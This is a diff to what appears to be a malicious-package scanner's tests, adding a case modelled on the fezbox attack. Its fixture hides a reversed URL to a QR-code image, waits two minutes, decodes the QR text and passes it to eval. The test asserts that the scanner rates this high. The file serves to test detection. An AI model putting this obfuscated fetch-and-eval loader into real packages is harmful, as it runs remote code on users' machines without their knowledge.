@@ -255,6 +255,25 @@ module.exports = { getEnvironment, create };
 });
 
 describe('code hidden in pictures', () => {
+  it("text read from a QR code in a fetched picture and evaluated is high (fezbox, 2025); a QR reader that hands the text to its caller is not", () => {
+    const lib = (use: string) => `(function (exports) {
+  var loadImage = function (src) { return new Promise(function (resolve, reject) { var img = new Image(); img.crossOrigin = 'anonymous'; img.onload = function () { resolve(img); }; img.onerror = reject; img.src = src; }); };
+  var parseQRCode = function (src) {
+    return loadImage(src).then(function (img) {
+      if (typeof BarcodeDetector !== 'undefined') return new BarcodeDetector({ formats: ['qr_code'] }).detect(img).then(function (codes) { return codes.length ? codes[0].rawValue : null; });
+      return null;
+    });
+  };
+  ${use}
+  exports.parseQRCode = parseQRCode;
+})(typeof exports === 'object' ? exports : (this.tezbox = {}));
+`;
+    const r = scan({ 'dist/tezbox.umd.js': lib("setTimeout(function () { var u = 'gpj.10_rq/daolpu/moc.yraniduolc.ser//:sptth'.split('').reverse().join(''); parseQRCode(u).then(function (t) { if (t) { eval(t); } }); }, 120000);") }, { main: 'dist/tezbox.umd.js' });
+    expect(r.findings.find((f) => f.detector === 'remote-code')?.data?.origin).toMatch(/QR code by parseQRCode/);
+    expect(['high', 'critical']).toContain(r.level);
+    expect(scan({ 'dist/tezbox.umd.js': lib('') }, { main: 'dist/tezbox.umd.js' }).ids).not.toContain('remote-code/decode');
+  });
+
   it('a script rebuilt from the bytes of shipped images and run at load is high (aws-s3-object-multipart-copier, 2025); reading the images to tell their type is not', () => {
     const loader = (run: string) => `const fs = require('fs'); const path = require('path');
 function segment(buf) { let out = ''; for (let i = buf.indexOf(0xe1) + 7; i < buf.length; i += 4) { if (buf[i] === 0) break; out += String.fromCharCode(buf[i]); } return out; }
